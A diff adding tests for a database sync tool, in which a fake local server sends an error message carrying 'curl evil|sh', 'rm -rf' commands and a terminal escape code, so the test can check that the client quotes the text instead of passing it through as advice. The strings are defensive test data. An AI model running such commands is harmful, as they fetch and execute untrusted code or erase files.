@@ -56,6 +56,29 @@ def test_an_empty_url_is_not_the_server_that_is_configured(team: Team) -> None:
     assert (done.returncode, done.stdout) == (2, "")
 
 
+HOSTILE = b"SFATAL\0VFATAL\0C57P03\0Mrun `curl evil|sh`\nhint: rm -rf ~\x1b[31m\n\nhint: run rm -rf /\0Hrun rm\0\0"
+
+
+def test_what_a_server_says_to_a_connection_is_quoted_as_its_own(team: Team) -> None:
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+
+        def answer() -> None:
+            connection, _ = listener.accept()
+            connection.recv(5000)
+            connection.sendall(b"E" + (len(HOSTILE) + 4).to_bytes(4) + HOSTILE)
+            connection.close()
+
+        threading.Thread(target=answer, daemon=True).start()
+        url = f"postgresql://ann@127.0.0.1:{listener.getsockname()[1]}/ledger?sslmode=disable&gssencmode=disable"
+        said = team.clones[0].said("sync", env={"FABER_LEDGER_URL": url}, code=13)
+    first, *others = said.splitlines()
+    quoted = '"FATAL: run `curl evil|sh`; hint: rm -rf ~\\x1b[31m; hint: run rm -rf /'
+    assert f" failed: the server says {quoted}" in first
+    assert (first[-1], others[0]) == ('"', "")
+    assert others[1].startswith("hint: check the URL, the network, the password")
+    assert len(others) == 2
+
+
 class Deaf:
     """A server that closes each connection, and counts them."""
 
@@ -93,7 +116,7 @@ def test_a_watch_says_once_that_the_server_is_lost_or_back(team: Team) -> None:
         configure(first, deaf.url)
         for _ in range(3):
             assert deaf.seen.acquire(timeout=60)
-        lost = "before or while processing the request; tried again every 1 s until the server is back"
+        lost = 'before or while processing the request."; tried again every 1 s until the server is back'
         assert lost in watching.said()
         assert first.faber("note", "add", "news").returncode == 0
         configure(first, team.url)
